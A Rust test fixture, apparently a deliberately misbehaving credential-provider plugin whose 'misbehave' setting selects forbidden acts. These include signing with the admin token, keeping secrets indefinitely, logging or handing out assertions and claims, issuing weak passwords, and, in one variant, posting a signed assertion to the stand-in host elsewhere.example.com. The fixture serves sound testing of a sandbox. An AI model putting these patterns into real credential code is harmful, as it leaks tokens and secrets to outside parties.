//! Logs in like a provider for a cloud: signs an assertion, exchanges it for a login, keeps the
//! login, and gets a token with it. Then it does something forbidden, which `misbehave` selects.
//!
//! It knows the configured `admin_token`, because the tests use a fixed one.

use rise_provider::http::{Request, Response};
use rise_provider::random::{self, LETTERS_AND_DIGITS};
use rise_provider::{
    Credential, Error, Grant, Issued, Location, Login, Needs, PrivateKeyName, Problem, Provider,
    Scope, Secret, SecretName, assertions, kept, log,
};
use schemars::JsonSchema;
use serde::Deserialize;
use serde_json::{Value, json};

struct LoginRogue;

rise_provider::export_provider!(LoginRogue);

/// The `admin_token` that the tests configure.
const KNOWN: &str = "canary-admin-token-1f0c";

#[derive(Deserialize, JsonSchema)]
#[serde(deny_unknown_fields)]
struct Settings {
    base_url: String,
    key: Option<PrivateKeyName>,
    admin_token: Option<SecretName>,
    /// What it says that it needs.
    requests: Option<Vec<String>>,
    image_host: Option<String>,
    /// The header and the claims of the assertion as JSON, in place of its own.
    header: Option<String>,
    claims: Option<String>,
    #[serde(default)]
    misbehave: Misbehave,
}

#[derive(Clone, Copy, Default, Deserialize, JsonSchema, PartialEq)]
#[serde(rename_all = "kebab-case")]
enum Misbehave {
    /// Behaves, for comparison.
    #[default]
    No,
    SignWithText,
    SignWithToken,
    SignSecret,
    SignThousands,
    SignInLocate,
    AssertionAsPassword,
    AssertionAsBearer,
    AssertionEchoed,
    AssertionElsewhere,
    AssertionClaim,
    KeptAsPassword,
    TakenAndKept,
    KeepConfigured,
    KeepAssertion,
    KeepText,
    KeepInLocate,
    ClaimOfConfigured,
    ClaimOfKept,
    WeakPassword,
    RandomPassword,
    RandomName,
    RandomInLocate,
}

impl Provider for LoginRogue {
    type Settings = Settings;

    const NAME: &'static str = "login-rogue";
    const VERSION: &'static str = env!("CARGO_PKG_VERSION");
    const DESCRIPTION: &'static str = "Signs, keeps and hands out what it must not";

    fn check(_: &Settings) -> Result<Scope, Vec<Problem>> {
        Ok(Scope::Repository)
    }

    fn needs(settings: &Settings) -> Needs {
        Needs { requests: settings.requests.clone(), image_host: settings.image_host.clone() }
    }

    fn locate(settings: &Settings, project: &str) -> Result<Location, Error> {
        if settings.misbehave == Misbehave::SignInLocate {
            drop(sign(settings, 0));
        } else if settings.misbehave == Misbehave::KeepInLocate {
            drop(kept::find("login"));
        } else if settings.misbehave == Misbehave::RandomInLocate {
            drop(random::text(8, LETTERS_AND_DIGITS));
        }
        Ok(Location { host: settings.host().to_owned(), repository: project.to_owned() })
    }

    fn resolve(settings: &Settings, location: &Location) -> Option<String> {
        (location.host == settings.host()).then(|| location.repository.clone())
    }

    fn issue(settings: &Settings, grant: &Grant) -> Result<Issued, Error> {
        let now = grant.now();
        let password = match settings.misbehave {
            Misbehave::SignWithText => assertion_of(&Secret::new("no key"), settings, now)?,
            Misbehave::SignWithToken => assertion_of(&settings.token()?, settings, now)?,
            Misbehave::SignSecret => {
                let claims = json!({ "exp": now + 60, "sub": KNOWN });
                settings.key()?.sign(&json!({ "alg": "RS256" }), &claims)?
            }
            // It ignores every refusal but the last.
            Misbehave::SignThousands => {
                let mut signed = sign(settings, now);
                (0..3000).for_each(|_| signed = sign(settings, now));
                signed?
            }
            Misbehave::AssertionAsPassword => sign(settings, now)?,
            Misbehave::AssertionAsBearer => {
                let credential = Credential::Bearer(sign(settings, now)?);
                return Ok(Issued { credential, expires_at: None });
            }
            Misbehave::AssertionEchoed => {
                let answer = exchange(settings, "/echo", &sign(settings, now)?)?;
                log::info(&answer.text());
                taken(&answer, "/body")?
            }
            Misbehave::AssertionElsewhere => {
                let assertion = sign(settings, now)?;
                let _ = Request::post("https://elsewhere.example.com").bearer(&assertion).send()?;
                assertion
            }
            Misbehave::AssertionClaim => claim(&sign(settings, now)?)?,
            Misbehave::KeptAsPassword => {
                drop(login(settings, now)?);
                login(settings, now)?
            }
            Misbehave::TakenAndKept => login(settings, now)?,
            Misbehave::KeepConfigured => keep(settings.token()?)?,
            Misbehave::KeepAssertion => keep(sign(settings, now)?)?,
            Misbehave::KeepText => keep(Secret::new("a text that another call may read"))?,
            Misbehave::ClaimOfConfigured => claim(&settings.token()?)?,
            Misbehave::ClaimOfKept => {
                drop(login(settings, now)?);
                told_of(&login(settings, now)?)?
            }
            Misbehave::WeakPassword => random::password(8, "0123456789")?,
            Misbehave::RandomPassword => random::password(32, LETTERS_AND_DIGITS)?,
            Misbehave::No
            | Misbehave::RandomName
            | Misbehave::SignInLocate
            | Misbehave::KeepInLocate
            | Misbehave::RandomInLocate => token(settings, now)?,
        };
        let username = if settings.misbehave == Misbehave::RandomName {
            random::text(12, LETTERS_AND_DIGITS)?
        } else {
            password.claim("sub").unwrap_or_else(|| "nobody".to_owned())
        };
        let credential = Credential::Basic(Login { username, password });
        Ok(Issued { credential, expires_at: Some(now + 600) })
    }
}

impl Settings {
    fn host(&self) -> &str {
        let url = self.base_url.split("://").nth(1).unwrap_or_default();
        self.image_host.as_deref().unwrap_or(url)
    }

    fn key(&self) -> Result<&PrivateKeyName, Error> {
        self.key.as_ref().ok_or_else(|| Error::InvalidSettings("no `key`".to_owned()))
    }

    fn token(&self) -> Result<Secret, Error> {
        let token = self.admin_token.as_ref();
        token.ok_or_else(|| Error::InvalidSettings("no `admin_token`".to_owned()))?.get()
    }
}

fn sign(settings: &Settings, now: u64) -> Result<Secret, Error> {
    let (header, claims) = parts(settings, now);
    settings.key()?.sign(&header, &claims)
}

fn assertion_of(key: &Secret, settings: &Settings, now: u64) -> Result<Secret, Error> {
    let (header, claims) = parts(settings, now);
    assertions::sign(key, &header, &claims)
}

/// `exp` may be written relative to now: `{"exp": "+3601"}`.
fn parts(settings: &Settings, now: u64) -> (Value, Value) {
    let parsed = |text: &Option<String>, default: Value| {
        text.as_ref().and_then(|text| serde_json::from_str(text).ok()).unwrap_or(default)
    };
    let header = parsed(&settings.header, json!({ "alg": "RS256" }));
    let mut claims = parsed(&settings.claims, json!({ "sub": "me", "exp": "+300" }));
    let relative = claims.pointer("/exp").and_then(Value::as_str);
    let seconds = relative.and_then(|text| text.strip_prefix('+')?.parse::<u64>().ok());
    if let (Some(seconds), Some(exp)) = (seconds, claims.pointer_mut("/exp")) {
        *exp = json!(now + seconds);
    }
    (header, claims)
}

fn exchange(settings: &Settings, path: &str, assertion: &Secret) -> Result<Response, Error> {
    let answer = Request::post(&format!("{}{path}", settings.base_url))
        .form("grant_type", "urn:ietf:params:oauth:grant-type:jwt-bearer")
        .form_secret("assertion", assertion)
        .send()?;
    answer.success()?;
    Ok(answer)
}

/// The login of the registry: the one that is kept, or a new one.
fn login(settings: &Settings, now: u64) -> Result<Secret, Error> {
    if let Some(login) = kept::find("login")? {
        return Ok(login);
    }
    let login = taken(&exchange(settings, "/api/tokens", &sign(settings, now)?)?, "/token")?;
    kept::keep("login", &login, now + 600)?;
    Ok(login)
}

/// The token for the caller.
fn token(settings: &Settings, now: u64) -> Result<Secret, Error> {
    let login = login(settings, now)?;
    let url = format!("{}/api/projects/my-app/tokens", settings.base_url);
    let answer = Request::post(&url).bearer(&login).send()?;
    if answer.status() == 401 {
        kept::forget("login")?;
    }
    answer.success()?;
    taken(&answer, "/other")
}

fn taken(answer: &Response, pointer: &str) -> Result<Secret, Error> {
    answer.take_secret(pointer).ok_or_else(|| Error::Failed(format!("nothing at {pointer}")))
}

fn keep(secret: Secret) -> Result<Secret, Error> {
    kept::keep("mine", &secret, u64::MAX)?;
    Ok(secret)
}

/// What a call learns of a login that another one has kept.
fn told_of(kept: &Secret) -> Result<Secret, Error> {
    match kept.expires_at() {
        Some(told) => Ok(Secret::new(&format!("it expires at {told}"))),
        None => claim(kept),
    }
}

/// Hands out the claim, if it gets one.
fn claim(secret: &Secret) -> Result<Secret, Error> {
    let claim = secret.claim("sub").ok_or_else(|| Error::Failed("no claim".to_owned()))?;
    Ok(Secret::new(&claim))
}
